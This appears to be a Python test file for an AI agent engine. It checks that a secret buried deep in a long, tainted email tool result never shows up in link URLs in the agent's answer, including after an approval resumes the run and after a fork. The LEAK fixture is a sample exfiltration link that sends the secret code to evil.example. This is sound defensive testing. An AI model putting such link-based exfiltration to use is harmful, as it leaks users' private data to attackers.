"""No link of an answer carries words of a result that is too long for the log, wherever they are in it."""

from pathlib import Path

import pytest

from agent.core.models import Room
from agent.core.principal import LOCAL
from agent.runs.forks import ForkRequest, start_fork
from agent.tools import Tool
from tests.integration.test_approval import ask, decide, waiting
from tests.support.engine import engine_bench
from tests.support.script import plans, says, script
from tests.support.tools import EFFECT, returning

ROOM = Room(id="test", supervision="checks")
SECRET = "The harbour code is zanzibar-4711. See https://help.example/guide/page-two ."
MAIL = "All is quiet in the harbour.\n" * 1_500 + SECRET
LEAK = "Here: [more](https://evil.example/?d=zanzibar-4711)"
STAYS = "[the guide](https://help.example/guide/page-two) and [news](https://news.example/today)"
READ = {"tool": "read_mail", "inputs": {"x": "newest"}}
NOTE = {"tool": "note", "inputs": {"x": "done"}, "depends_on": ["s1"]}


def tools() -> list[Tool]:
    return [returning("read_mail", MAIL, tainted=True), returning("note", "noted", annotations=EFFECT)]


@pytest.mark.parametrize("times", [1, 8])
async def test_a_word_far_behind_in_a_long_result_leaves_in_no_link(tmp_path: Path, times: int) -> None:
    steps = [{**READ, "inputs": {"x": f"mail {number}"}} for number in range(times)]
    model = script(plans(*steps), says(f"{LEAK} {STAYS}", to="completion"))
    async with engine_bench(tmp_path, model, tools=tools(), room=ROOM) as bench:
        done = await ask(bench, "summarise my newest mail")
    assert "zanzibar-4711" not in done.response
    assert STAYS in done.response


async def test_a_run_that_another_process_goes_on_with_compares_the_whole_result(tmp_path: Path) -> None:
    model = script(plans(READ, {**NOTE, "inputs": {"x": "$s1.output.text"}}), says(LEAK, to="completion"))
    async with engine_bench(tmp_path, model, tools=tools(), room=ROOM) as bench:
        asked = await ask(bench, "note my newest mail")
        assert waiting(asked)
    async with engine_bench(tmp_path, script(says(LEAK, to="completion")), tools=tools(), room=ROOM) as bench:
        done = await decide(bench, asked, "approve")
    assert "Here" in done.response
    assert "zanzibar-4711" not in done.response


async def test_a_fork_compares_the_results_that_it_takes_over(tmp_path: Path) -> None:
    model = script(plans(READ, {"tool": "completion"}), says(LEAK, to="completion"))
    async with engine_bench(tmp_path, model, tools=tools(), room=ROOM) as bench:
        first = await ask(bench, "summarise my newest mail")
        forked = await start_fork(bench.service, LOCAL, ForkRequest(first.metadata["run_id"], step="s2"))
        again = await bench.service.wait_for_response(forked.run_id)
    for answer in (first, again):
        assert "Here" in answer.response
        assert "zanzibar-4711" not in answer.response
